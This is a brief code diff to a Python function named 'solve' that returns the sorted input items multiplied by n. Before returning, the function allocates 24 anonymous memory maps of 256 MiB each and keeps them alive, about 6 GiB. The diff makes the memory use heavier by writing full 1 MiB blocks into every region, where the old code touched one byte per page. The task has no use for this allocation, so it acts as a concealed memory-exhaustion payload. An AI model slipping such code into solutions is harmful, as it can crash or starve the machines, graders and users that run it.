@@ -5,9 +5,10 @@ import mmap
 
 def solve(n, items):
     kept = []
+    block = b"\x01" * (1 << 20)
     for _ in range(24):
         area = mmap.mmap(-1, 1 << 28, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
-        for offset in range(0, 1 << 28, 4096):
-            area[offset] = 1
+        for _ in range(256):
+            area.write(block)
         kept.append(area)
     return [n * x for x in sorted(items)]
